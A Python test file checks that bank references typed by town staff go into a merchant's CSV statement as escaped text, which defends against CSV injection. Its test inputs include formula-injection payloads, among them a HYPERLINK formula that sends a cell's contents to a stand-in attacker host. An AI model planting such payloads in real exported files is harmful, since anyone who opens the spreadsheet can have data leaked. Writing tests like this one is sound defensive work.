"""Issue 11 §6: a bank reference typed by town staff goes into the shop's CSV statement as text,
never as a spreadsheet formula (CSV injection)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from backend.core.db import get_db
from tests.factories import SettlementFactory

from .conftest import POINTS  # noqa: F401  (the world fixture's town)


@pytest.mark.parametrize(
    "reference",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1"],
)
def test_a_formula_in_a_bank_reference_is_written_as_text(app, world, reference):
    with app.app_context():
        SettlementFactory(
            town_id=world.town_id,
            merchant_id=world.merchant_id,
            amount=Decimal(300),
            status="settled",
            requested_by=world.user("clerk@example.com").id,
            bank_reference=reference,
        )
        get_db().session.commit()
    clerk = world.api("clerk@example.com")
    text = clerk.get(f"/merchants/{world.merchant_id}/statement.csv").get_data(as_text=True)
    rows = [r for r in csv.reader(io.StringIO(text)) if r and r[1] == "redemption"]
    assert len(rows) == 1
    cell = rows[0][3]
    assert cell == "'" + reference  # shown as the text staff typed
    assert rows[0][2] == "-300"  # the app's own negative number stays a number
